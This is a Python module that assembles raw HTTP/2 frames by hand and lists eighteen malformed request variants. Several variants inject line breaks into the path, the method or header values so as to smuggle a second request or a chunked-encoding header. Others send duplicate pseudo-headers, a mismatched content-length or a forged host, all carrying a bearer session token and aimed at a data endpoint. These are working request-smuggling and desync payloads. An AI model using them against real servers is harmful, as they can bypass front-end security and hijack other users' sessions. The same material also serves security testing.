"""HTTP/2 by hand: requests whose pseudo-header fields a library would never send."""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, DATA, SETTINGS, CONTINUATION = 1, 0, 4, 9
END_STREAM, END_HEADERS = 1, 4


def packed(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string without Huffman coding (RFC 7541 section 5.2)."""
    raw = value.encode("latin-1")
    length, out = len(raw), bytearray()
    if length < 127:
        out.append(length)
    else:
        out.append(127)
        length -= 127
        while length >= 128:
            out.append(length % 128 + 128)
            length //= 128
        out.append(length)
    return bytes(out) + raw


def block(fields):
    """Literal fields that are never indexed (RFC 7541 section 6.2.3)."""
    return b"".join(b"\x10" + text(name) + text(value) for name, value in fields)


def plain(attempt):
    return [(":method", attempt.method), (":scheme", "http"), (":authority", "org.example"), (":path", attempt.target),
            ("authorization", f"Bearer {attempt.session}"), ("content-type", attempt.kind),
            *((name.lower(), value) for name, value in attempt.headers)]


def exchange(fields, body, headers_flags=END_HEADERS, between=b""):
    settings = packed(SETTINGS, 0, 0, b"") + packed(SETTINGS, 1, 0, b"")
    pieces = [body[at : at + 16384] for at in range(0, len(body), 16384)] or [b""]
    data = b"".join(packed(DATA, END_STREAM if at == len(pieces) - 1 else 0, 1, piece) for at, piece in enumerate(pieces))
    # A frame that ends the connection, so that the other side closes when it has answered.
    return PREFACE + settings + packed(HEADERS, headers_flags, 1, block(fields)) + between + data + packed(7, 0, 0, struct.pack(">II", 0, 0))


def bent(change):
    return lambda attempt: exchange(change(plain(attempt)), attempt.body)


def put(name, value):
    return bent(lambda fields: [*fields, (name, value)])


def instead(name, value):
    return bent(lambda fields: [(key, value if key == name else said) for key, said in fields])


TRICKS = {
    "HTTP/2": bent(lambda fields: fields),
    "HTTP/2: a second method": put(":method", "GET"),
    "HTTP/2: a second path": put(":path", "/services/data"),
    "HTTP/2: the path said first as another": bent(lambda fields: [(":path", "/services/data"), *fields]),
    "HTTP/2: a path that is not one": bent(lambda fields: [(key, "x" + said if key == ":path" else said) for key, said in fields]),
    "HTTP/2: an empty path": instead(":path", ""),
    "HTTP/2: a path with a line break": bent(lambda fields: [(key, said + " HTTP/1.1\r\nX: y" if key == ":path" else said) for key, said in fields]),
    "HTTP/2: a method with a line break": instead(":method", "GET /services/data HTTP/1.1\r\n\r\nPOST"),
    "HTTP/2: the scheme of a file": instead(":scheme", "file"),
    "HTTP/2: an authority with a path": instead(":authority", "org.example/services/data?"),
    "HTTP/2: a host that is another": put("host", "elsewhere.example"),
    "HTTP/2: chunked": put("transfer-encoding", "chunked"),
    "HTTP/2: a length that is too short": put("content-length", "2"),
    "HTTP/2: a header with a line break": put("x-a", "b\r\ntransfer-encoding: chunked"),
    "HTTP/2: a name in capitals": put("Content-Length", "2"),
    "HTTP/2: a pseudo-header of another kind": put(":status", "200"),
    "HTTP/2: a connection header": put("connection", "content-type"),
    "HTTP/2: method CONNECT": instead(":method", "CONNECT"),
}
